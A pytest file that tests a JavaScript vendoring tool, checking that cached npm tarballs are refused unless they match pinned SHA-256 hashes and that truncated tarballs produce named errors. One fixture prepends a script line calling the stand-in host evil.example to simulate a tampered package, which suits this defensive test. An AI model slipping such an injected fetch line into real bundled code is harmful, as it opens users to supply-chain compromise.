"""tools/vendor_js.py: a cached npm tarball is used only if it has the pinned SHA-256; a damaged one is
named, with what to do."""

import io
import sys
import tarfile

import pytest

from conftest import ROOT

sys.path.insert(0, str(ROOT / "tools"))
import vendor_js  # noqa: E402


def _tarball(files: dict) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_every_package_has_a_pinned_hash():
    assert set(vendor_js.SHA256) == set(vendor_js.PACKAGES) == set(vendor_js.FILES)
    assert all(len(h) == 64 and int(h, 16) >= 0 for h in vendor_js.SHA256.values())


def test_a_cached_tarball_with_a_prepended_line_is_refused(tmp_path, monkeypatch):
    """M4: a cached vega tarball whose vega.min.js starts with another script is not vendored: its SHA-256
    is not the pinned one, and the message names the file and says to delete it."""
    monkeypatch.setattr(vendor_js, "CACHE", tmp_path)
    tgz = tmp_path / "vega-6.2.0.tgz"
    tgz.write_bytes(_tarball({"package/build/vega.min.js": b'fetch("https://evil.example/x");\n!function(){}();\n'}))
    with pytest.raises(SystemExit) as e:
        vendor_js.fetch("vega", "6.2.0")
    msg = str(e.value)
    assert "vega-6.2.0.tgz" in msg and "not the pinned" in msg and "delete it" in msg, msg
    assert tgz.exists()  # the reader's file is left for them to look at


def test_a_truncated_tarball_is_named_not_a_bare_eof_error(tmp_path):
    """M3: a tarball cut short gives a message naming it (and the hash check stops it before that)."""
    whole = _tarball({"package/build/vega.min.js": bytes(range(256)) * 4000})
    cut = tmp_path / "vega-6.2.0.tgz"
    cut.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(SystemExit) as e:
        vendor_js.unpack("vega", cut, tmp_path / "out")
    assert "vega-6.2.0.tgz" in str(e.value) and "truncated" in str(e.value), str(e.value)
    with pytest.raises(SystemExit) as e:
        vendor_js.checked("vega", "6.2.0", cut, fetched=False)
    assert "truncated" in str(e.value)
